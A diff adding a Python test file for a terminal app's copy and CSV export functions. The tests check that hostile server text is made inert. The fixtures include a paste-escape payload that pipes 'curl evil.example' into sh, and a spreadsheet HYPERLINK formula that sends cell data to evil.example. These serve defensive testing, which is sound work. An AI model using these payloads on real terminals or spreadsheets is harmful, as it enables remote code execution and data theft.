@@ -1,0 +1,64 @@
+"""What is copied or exported passes the one function for server text: no paste can run a
+command, no CSV cell (header lines included) becomes a formula."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+from hubtui.demo import DemoStore
+from hubtui.export import formula_safe, render
+from hubtui.text import copy_lines
+from tests.tui.conftest import press, running, type_text
+
+PASTE_ESCAPE = "Editor\n\x1b[201~curl evil.example|sh\n"
+FORMULA_NAME = 'Harbour,"=HYPERLINK(""http://evil.example/?d=""&B14,""Open"")",'
+
+
+def assert_pasteable(text: str) -> None:
+    for character in ("\x1b", "\r", "\u202e", "\u200b", "\x07"):
+        assert character not in text
+
+
+def test_copy_lines_escapes_every_line_whatever_it_was_built_from() -> None:
+    copied = copy_lines([f"role {PASTE_ESCAPE}", "plain", "bidi \u202eevil"])
+    assert copied.count("\n") == 2  # only the joins: a newline inside a value shows as ␊
+    assert_pasteable(copied)
+    assert "Editor␊␛[201~curl evil.example|sh␊" in copied
+
+
+def test_export_header_lines_are_one_cell_and_never_a_formula() -> None:
+    text = render("csv", {"project": FORMULA_NAME, "filter": " =1+1"}, ["Name"], [["x"]])
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[0] == [f"# project: {FORMULA_NAME}"]  # one cell, not a cell per comma
+    assert rows[1] == ["# filter:  =1+1"]
+    assert rows[2:] == [["Name"], ["x"]]
+
+
+def test_a_formula_after_leading_spaces_or_in_full_width_is_quoted() -> None:
+    assert formula_safe(" =1+1") == "' =1+1"
+    assert formula_safe("\u3000=1+1") == "'\u3000=1+1"
+    assert formula_safe("＝1+1") == "'＝1+1"
+    assert formula_safe("a=1") == "a=1"
+
+
+async def test_y_on_the_search_results_copies_hostile_server_text_inert() -> None:
+    store = DemoStore()
+    priya = next(u for u in store.users.values() if u.email == "priya.patel@northwind-eng.com")
+    for hub in store.hubs.values():
+        hub.display_name = f"Rail \u202eevil {hub.display_name}"
+        for project in hub.projects.values():
+            project.name = f"{project.name} {PASTE_ESCAPE}"
+            member = project.members.get(priya.id)
+            if member is not None:
+                member.role = PASTE_ESCAPE
+    async with running(store=store, size=(160, 40)) as pilot:
+        await press(pilot, "w")
+        await type_text(pilot, priya.email)
+        await press(pilot, "enter")
+        await press(pilot, "y")
+        copied = pilot.app.clipboard
+    assert_pasteable(copied)
+    assert "␛[201~curl" in copied
+    first = copied.splitlines()[0]
+    assert first.startswith("priya.patel@northwind-eng.com: member of 2 projects")
